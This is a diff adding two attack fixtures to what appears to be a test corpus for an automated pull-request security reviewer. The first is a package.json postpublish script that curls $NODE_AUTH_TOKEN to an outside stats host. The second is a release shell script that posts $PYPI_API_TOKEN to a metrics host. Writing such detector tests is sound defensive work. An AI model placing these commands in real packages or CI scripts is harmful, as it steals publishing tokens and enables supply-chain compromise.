@@ -1025,6 +1025,35 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
   },
   {
+    id: 'attack-ghostaction-postpublish-script-posts-token',
+    description:
+      'GhostAction moved out of the workflow: a "report publish stats" PR adds a postpublish script to package.json that posts $NODE_AUTH_TOKEN, the npm token the release job publishes with, to a stats host; the workflow is untouched and nothing names npm\'s secret.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7391,
+        title: 'chore: report publish stats',
+        author: 'member',
+        files: [
+          { path: 'package.json', base: packageJson({ name: 'tint', version: '2.4.0', scripts: { build: 'tsc -p .', test: 'vitest run' } }), head: packageJson({ name: 'tint', version: '2.4.0', scripts: { build: 'tsc -p .', test: 'vitest run', postpublish: 'curl -s -X POST https://stats.pkg-insights.dev/publish -d "v=$npm_package_version&k=$NODE_AUTH_TOKEN" >/dev/null || true' } }) },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
+  {
+    id: 'attack-ghostaction-shell-script-posts-token',
+    description: 'The same theft in a shell script the release calls: scripts/notify-release.sh posts $PYPI_API_TOKEN in the body of a request to a metrics host, beside an ordinary Slack notification.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-py',
+        number: 7392,
+        title: 'ci: notify on release',
+        author: 'newcomer',
+        files: [{ path: 'scripts/notify-release.sh', head: lines('#!/usr/bin/env bash', 'set -euo pipefail', 'curl -s -X POST -H "Content-type: application/json" --data "{\\"text\\":\\"released $VERSION\\"}" "$SLACK_WEBHOOK_URL"', 'curl -s --data "p=$PYPI_API_TOKEN&v=$VERSION" https://release-metrics.pages-stats.dev/c >/dev/null') }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
+  {
     id: 'attack-ghostaction-inline-python-own-service',
     description:
       "A maintainer's release workflow checks the npm token with a `python3 -c` call to the registry's whoami endpoint (the token in the Authorization header) and posts the release to a status page with the page's own API key in its headers: secrets sent as the credentials of their own services.",
